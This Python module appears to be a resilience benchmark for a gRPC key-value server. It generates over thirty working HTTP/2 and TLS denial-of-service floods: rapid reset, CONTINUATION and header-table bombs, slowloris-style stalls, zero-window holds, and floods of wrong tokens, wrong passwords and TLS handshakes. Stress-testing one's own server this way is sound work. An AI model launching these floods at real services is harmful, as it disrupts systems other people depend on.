"""Floods: what a client sends that means harm. Each part of it would be harmless once.

Run as a process, it prints that it begins, attacks until its standard input ends, and prints what it did, as JSON.
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import itertools
import json
import os
import select
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterable, Iterator
from dataclasses import asdict, dataclass
from functools import cache

from gpkvs.bench.door.crowd import LARGE_KEY
from gpkvs.bench.door.frames import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADER_TABLE_SIZE,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PREFACE,
    PRIORITY,
    RST,
    SETTINGS,
    WINDOW,
    call_headers,
    frame,
    message,
    wide_open,
)
from gpkvs.bench.door.key_changes import Done, change_keys
from gpkvs.proto.v1 import admin_pb2, kv_pb2

_GET, _SET, _BATCH, _SCAN = "/gpkvs.v1.KV/Get", "/gpkvs.v1.KV/Set", "/gpkvs.v1.KV/Batch", "/gpkvs.v1.KV/Scan"
_PIPELINE, _INFO = "/gpkvs.v1.KV/Pipeline", "/gpkvs.v1.Admin/Info"
_STREAMS_MAX = 100
_CALLS = 20_000  # on one connection, before the next one
_FRAMES = 50_000
_PIECE_BYTES = 1 << 16
_BEGIN = PREFACE + frame(SETTINGS, 0, 0)
_NO_WINDOW = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
_GET_LARGE = message(kv_pb2.GetRequest(key=LARGE_KEY).SerializeToString())


@dataclass(frozen=True)
class Flood:
    """What is sent on each connection.

    Parameters
    ----------
    parts
        Once, one after the other.
    cycle
        Then this, again and again; without it the connection stays as it is.
    connections
        At the same time. One that the server has closed is opened again at once.
    reads
        Whether what comes is read.
    waits
        Whether each part waits until something came for the one before.
    renews
        Whether a connection that has sent its parts is closed, and opened again.
    pause_seconds
        After each part.
    is_tls
        Whether the bytes are those of TLS.
    has_users
        Whether it shows logins, to a server that has users.
    """

    parts: Callable[[], Iterable[bytes]]
    cycle: bytes = b""
    connections: int = 4
    reads: bool = True
    waits: bool = False
    renews: bool = False
    pause_seconds: float = 0.0
    is_tls: bool = False
    has_users: bool = False


def _call(stream: int, path: str, data: bytes, more: Iterable[tuple[str, str]] = (), *, ends: bool = True) -> bytes:
    block = call_headers(path, more)
    return frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM if ends else 0, stream, data)


def _streams(count: int) -> range:
    return range(1, 2 * count, 2)


def _whole(begin: bytes, parts: Iterable[bytes]) -> Callable[[], Iterable[bytes]]:
    """Join what is sent into large pieces; every connection sends the same."""

    @cache
    def pieces() -> list[bytes]:
        data = begin + b"".join(parts)
        return [data[at : at + _PIECE_BYTES] for at in range(0, len(data), _PIECE_BYTES)]

    return pieces


def _resets(path: str, data: bytes) -> Iterator[bytes]:
    for stream in _streams(_CALLS):
        yield _call(stream, path, data, ends=False) + frame(RST, 0, stream, bytes(4))


def _by_turns(path: str, data: bytes, more: Callable[[int], Iterable[tuple[str, str]]]) -> Iterator[bytes]:
    """Make as many calls as there may be, then the next ones."""
    yield _BEGIN
    for first in range(0, _CALLS, _STREAMS_MAX // 2):
        streams = _streams(_CALLS)[first : first + _STREAMS_MAX // 2]
        yield b"".join(_call(stream, path, data, more(stream)) for stream in streams)


def _slowly(data: bytes) -> Iterator[bytes]:
    return (data[at : at + 1] for at in range(len(data)))


def _table_churn() -> Iterator[bytes]:
    """Yield calls whose headers push each other out of the table of headers."""
    for stream in _streams(_CALLS):
        entry = b"\x40\x01a\x7f\x81\x1e" + struct.pack(">I", stream) * 1000
        size = frame(SETTINGS, 0, 0, struct.pack(">HI", HEADER_TABLE_SIZE, stream % 4096)) if stream % 199 == 1 else b""
        yield size + frame(HEADERS, END_HEADERS | END_STREAM, stream, call_headers(_GET) + entry)


def _header_bombs() -> Iterator[bytes]:
    """Yield calls with one header that was sent once and is named again and again."""
    bomb = b"\x40\x01a\x7f\x81\x1e" + b"b" * 4000 + b"\xbe" * 12_000
    for stream in _streams(1000):
        yield frame(HEADERS, END_HEADERS, stream, call_headers(_GET) + bomb)


def _open_calls(path: str, data: bytes) -> bytes:
    return b"".join(_call(stream, path, data, ends=False) for stream in _streams(_STREAMS_MAX))


@cache
def _client_hello() -> bytes:
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    out = ssl.MemoryBIO()
    hello = context.wrap_bio(ssl.MemoryBIO(), out, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        hello.do_handshake()
    return out.read()


def _wrong_token(stream: int) -> Iterable[tuple[str, str]]:
    return [("authorization", f"Bearer gpkvs_{stream:016x}_{'x' * 43}")]


def _wrong_password(stream: int) -> Iterable[tuple[str, str]]:
    return [("authorization", "Basic " + base64.b64encode(f"user{stream}:wrong".encode()).decode())]


CHANGES_OF_KEYS = "changes of keys"

_LOCK_STEP_SECONDS = 1.0  # so long a part waits for an answer
_GET_SMALL = message(kv_pb2.GetRequest(key=b"k").SerializeToString())
_EVERYTHING = message(kv_pb2.ScanRequest().SerializeToString())
_INFO_REQUEST = message(admin_pb2.InfoRequest().SerializeToString())
_BEGUN_CALL = _BEGIN + frame(HEADERS, END_HEADERS, 1, call_headers(_PIPELINE))
_SLOW_CALL = _BEGIN + _call(1, _SET, message(kv_pb2.SetRequest(key=b"k", value=bytes(4000)).SerializeToString()))
_HELD = message(bytes(16_000), size=1 << 20)

FLOODS: dict[str, Flood] = {
    "rapid reset": Flood(_whole(_BEGIN, _resets(_GET, _GET_SMALL)), renews=True),
    "reset of Info": Flood(_whole(_BEGIN, _resets(_INFO, _INFO_REQUEST)), renews=True),
    "reset of Scan": Flood(_whole(_BEGIN, _resets(_SCAN, _EVERYTHING)), renews=True),
    "Info": Flood(lambda: _by_turns(_INFO, _INFO_REQUEST, lambda _: ()), waits=True, renews=True),
    "continuations": Flood(
        lambda: [_BEGIN + frame(HEADERS, 0, 1, call_headers(_GET))], frame(CONTINUATION, 0, 1, b"") * _FRAMES
    ),
    "full continuations": Flood(
        lambda: [_BEGIN + frame(HEADERS, 0, 1, call_headers(_GET))],
        frame(CONTINUATION, 0, 1, (b"\x00\x01a\x7f\x81\x1e" + b"b" * 4000) * 4),
    ),
    "settings": Flood(
        lambda: [_BEGIN],
        b"".join(frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, size)) for size in range(_FRAMES)),
    ),
    "acknowledged settings": Flood(lambda: [_BEGIN], frame(SETTINGS, ACK, 0) * _FRAMES),
    "pings": Flood(lambda: [_BEGIN], frame(PING, 0, 0, bytes(8)) * _FRAMES),
    "priorities": Flood(lambda: [_BEGIN], frame(PRIORITY, 0, 1, bytes(5)) * _FRAMES),
    "unknown frames": Flood(lambda: [_BEGIN], frame(200, 0, 0, b"") * _FRAMES),
    "empty data": Flood(lambda: [_BEGUN_CALL], frame(DATA, 0, 1) * _FRAMES),
    "little data": Flood(
        lambda: [_BEGUN_CALL, frame(DATA, 0, 1, message(b"", size=16 << 20))],
        frame(DATA, 0, 1, b"x") * _FRAMES,
    ),
    "table of headers": Flood(_whole(_BEGIN, _table_churn()), renews=True),
    "header bombs": Flood(_whole(_BEGIN, _header_bombs()), renews=True),
    "large headers": Flood(
        lambda: _by_turns(_GET, _GET_SMALL, lambda _: [("a", "b" * 15_000)]), waits=True, renews=True
    ),
    "slow headers": Flood(lambda: _slowly(_SLOW_CALL), connections=500, pause_seconds=0.02),
    "slow messages": Flood(
        lambda: itertools.chain([_SLOW_CALL[:200]], _slowly(_SLOW_CALL[200:])), connections=500, pause_seconds=0.02
    ),
    "declared messages": Flood(
        lambda: _by_turns(_SET, message(b"x", size=(1 << 32) - 1), lambda _: ()), waits=True, renews=True
    ),
    "large frames": Flood(lambda: [_BEGIN + struct.pack(">I", (1 << 24) - 1)[1:] + bytes(6)], bytes(1 << 20)),
    "held messages": Flood(lambda: [_BEGIN + _open_calls(_BATCH, _HELD)], connections=20),
    "held streams": Flood(lambda: [_BEGIN + _open_calls(_PIPELINE, _HELD)], connections=20),
    "held scans": Flood(lambda: [_NO_WINDOW + _open_calls(_SCAN, _EVERYTHING)], connections=20),
    "nothing read": Flood(
        lambda: [PREFACE + wide_open() + _open_calls(_GET, _GET_LARGE)], connections=20, reads=False, renews=True,
        pause_seconds=0.2,
    ),
    "no window": Flood(lambda: [_NO_WINDOW + _open_calls(_GET, _GET_LARGE)], connections=20),
    "windows of a byte": Flood(
        lambda: [_NO_WINDOW + _call(1, _GET, _GET_LARGE)], frame(WINDOW, 0, 1, struct.pack(">I", 1)) * 100
    ),
    "idle": Flood(lambda: [_BEGIN], connections=1000),
    "connections": Flood(lambda: [_BEGIN], connections=50, renews=True),
    "wrong tokens": Flood(
        lambda: _by_turns(_GET, _GET_SMALL, _wrong_token), waits=True, renews=True, has_users=True
    ),
    "wrong passwords": Flood(
        lambda: _by_turns(_GET, _GET_SMALL, _wrong_password), waits=True, renews=True, has_users=True
    ),
    "slow handshakes": Flood(
        lambda: _slowly(_client_hello()), connections=500, pause_seconds=0.02, is_tls=True
    ),
    "handshakes": Flood(lambda: [_client_hello()], connections=50, waits=True, renews=True, is_tls=True),
    CHANGES_OF_KEYS: Flood(lambda: [], is_tls=True),
}  # fmt: skip


class _Connection:
    """One connection, and what it still has to send."""

    def __init__(self, flood: Flood, address: tuple[str, int]) -> None:
        self._flood = flood
        self.socket = socket.socket()
        self.socket.setblocking(False)
        self.socket.connect_ex(address)
        self._parts = iter(flood.parts())
        self._unsent = memoryview(b"")
        self._is_waiting = False
        self.may_send_at = 0.0
        self.is_done = False

    def wants_to_send(self, now: float) -> bool:
        """Return whether there is something that may be sent now."""
        if self.is_done and not self._flood.cycle:
            return False
        return now >= self.may_send_at and (not self._is_waiting or now >= self.may_send_at + _LOCK_STEP_SECONDS)

    def send(self, now: float) -> int:
        """Send what the socket takes; return how much."""
        if not self._unsent:
            part = next(self._parts, b"")
            if not part:
                self.is_done = True
                part = self._flood.cycle
            self._unsent = memoryview(part)
        sent = self.socket.send(self._unsent) if self._unsent else 0
        self._unsent = self._unsent[sent:]
        if not self._unsent:
            self._is_waiting = self._flood.waits
            self.may_send_at = now + self._flood.pause_seconds
        return sent

    def receive(self) -> int:
        """Read what came; return how much."""
        received = len(self.socket.recv(1 << 20))
        self._is_waiting = False
        if not received:
            raise ConnectionResetError
        return received

    @property
    def is_over(self) -> bool:
        """Whether another connection should take its place."""
        return self._flood.renews and self.is_done and not self._is_waiting


def attack(name: str, target: str, done: Done, stop: threading.Event) -> None:
    """Flood a server until it is enough."""
    host, port = target.rsplit(":", 1)
    if name == CHANGES_OF_KEYS:
        change_keys((host, int(port)), done, stop)
    else:
        _attack(FLOODS[name], (host, int(port)), done, stop)


def _attack(flood: Flood, address: tuple[str, int], done: Done, stop: threading.Event) -> None:
    poll = select.epoll()
    connections: dict[int, _Connection] = {}
    while not stop.is_set():
        while len(connections) < flood.connections:
            made = _Connection(flood, address)
            connections[made.socket.fileno()] = made
            poll.register(made.socket, select.EPOLLIN if flood.reads else 0)
            done.connections += 1
        now = time.monotonic()
        ready = dict(poll.poll(0))
        worked = False
        for file, connection in list(connections.items()):
            try:
                if ready.get(file, 0) & ~select.EPOLLOUT:
                    done.received_bytes += connection.receive()
                    worked = True
                if connection.wants_to_send(now):
                    done.sent_bytes += connection.send(now)
                    worked = True
            except BlockingIOError:
                continue
            except OSError:
                done.closed += 1
            else:
                if not connection.is_over or connection.wants_to_send(now):
                    continue
            del connections[file]
            connection.socket.close()
        if not worked:
            time.sleep(0.001)
    for connection in connections.values():
        connection.socket.close()


def _wait_for_end(stop: threading.Event) -> None:
    sys.stdin.read()
    stop.set()


def main() -> None:
    """Attack a server, and print what was done."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("flood", choices=FLOODS)
    parser.add_argument("target", help="host:port")
    options = parser.parse_args()
    # Whoever shares the processor with a flood comes first, so that what is slow is the server.
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    stop, done = threading.Event(), Done()
    threading.Thread(target=_wait_for_end, args=(stop,)).start()
    print("begins", flush=True)
    began, computed = time.monotonic(), time.process_time()
    attack(options.flood, options.target, done, stop)
    done.processor = (time.process_time() - computed) / (time.monotonic() - began)
    print(json.dumps(asdict(done)))


if __name__ == "__main__":
    main()
